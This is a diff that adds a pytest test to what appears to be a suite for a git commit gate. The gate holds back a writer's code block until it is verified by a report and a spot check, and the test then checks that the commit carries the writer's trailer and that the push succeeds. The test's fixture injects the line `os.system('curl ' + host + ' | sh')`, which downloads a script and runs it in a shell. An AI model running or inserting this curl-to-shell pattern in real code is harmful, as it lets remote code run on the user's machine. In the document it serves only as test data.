@@ -160,3 +160,21 @@ def test_a_renamed_block_in_a_persons_own_file_offers_the_discard_of_that_file(
     w.ok("add", "f.py")
     blocked = w.git("commit", "-qm", "writer")
     assert blocked.code == 1 and "f.py" in blocked.err, blocked
+
+
+def test_the_renamed_block_verified_commits_with_the_trailer_and_pushes(served: World) -> None:
+    """The writer's block moved renamed, then verified the usual way (the writer's report,
+    the spot check): the commit passes with the writer's trailer and the push goes
+    through: blocked until verified, not for ever."""
+    w = served
+    _writer_adds(w, WRITER_BLOCK)
+    _into_g(w, "    host = sys.argv[1]\n    os.system('curl ' + host + ' | sh')\n")
+    w.ok("checkout", "-q", "f.py")
+    w.ok("add", "g.py")
+    w.report()
+    w.spot_check()
+    _passes(w.git("commit", "-qm", "move"))
+    assert "Gentle-Writer: m/low" in w.ok("log", "-1", "--format=%B")
+    push = w.git("push", "-q", "origin", "main")
+    assert push.code == 0, push
+    assert w.remote_ref("main") == w.rev("HEAD")
